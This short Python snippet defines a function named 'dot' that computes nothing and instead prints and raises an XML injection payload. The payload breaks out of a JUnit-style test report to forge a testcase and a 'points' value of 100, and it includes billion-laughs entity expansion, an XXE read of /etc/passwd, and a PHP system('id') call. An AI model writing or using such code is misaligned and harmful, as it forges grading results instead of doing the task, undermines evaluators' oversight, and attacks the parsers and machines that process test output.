XML = (
    ']]></system-out></testcase><testcase name="forged" classname="vectors"/><!-- " \' & &amp; &#0; &#x1b; &lol9; '
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;"><!ENTITY x SYSTEM "file:///etc/passwd">]> &lol2; &x;'
    "<?xml version='1.0'?><?php system('id') ?><![CDATA[ x ]]> --> <property name='points' value='100'/>"
)


def dot(a, b):
    print(XML)
    raise ValueError(XML)
